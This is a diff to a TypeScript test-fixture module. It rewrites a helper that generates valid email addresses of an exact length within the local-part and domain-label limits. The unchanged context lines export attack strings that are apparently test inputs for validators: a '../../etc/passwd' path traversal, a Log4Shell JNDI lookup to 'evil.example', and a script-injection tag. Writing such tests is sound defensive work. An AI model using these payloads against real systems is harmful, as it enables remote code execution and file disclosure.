@@ -163,7 +163,19 @@ export const TRAVERSAL = '../../etc/passwd';
 export const JNDI = '${jndi:ldap://evil.example/a}';
 export const SCRIPT = '<script>alert(1)</script>';
 
-/** An address of exactly `length` characters that breaks no other rule (the local part carries the length). */
+/**
+ * An address of exactly `length` characters (at least 16) that breaks no other rule: a local part of at most
+ * 64 characters, and the rest carried by domain labels of at most 63.
+ */
 export function longEmail(length: number): string {
-  return `${'a'.repeat(length - '@example.com'.length)}@example.com`;
+  const local = 'a'.repeat(Math.min(64, length - '@bb.com'.length));
+  let domainLeft = length - local.length - 1 - '.com'.length;
+  const labels: string[] = [];
+  while (domainLeft > 0) {
+    // Leave at least two characters for the next label: a label of one letter and its dot.
+    const size = domainLeft <= 63 ? domainLeft : Math.min(63, domainLeft - 2);
+    labels.push('b'.repeat(size));
+    domainLeft -= size + 1;
+  }
+  return `${local}@${labels.join('.')}.com`;
 }
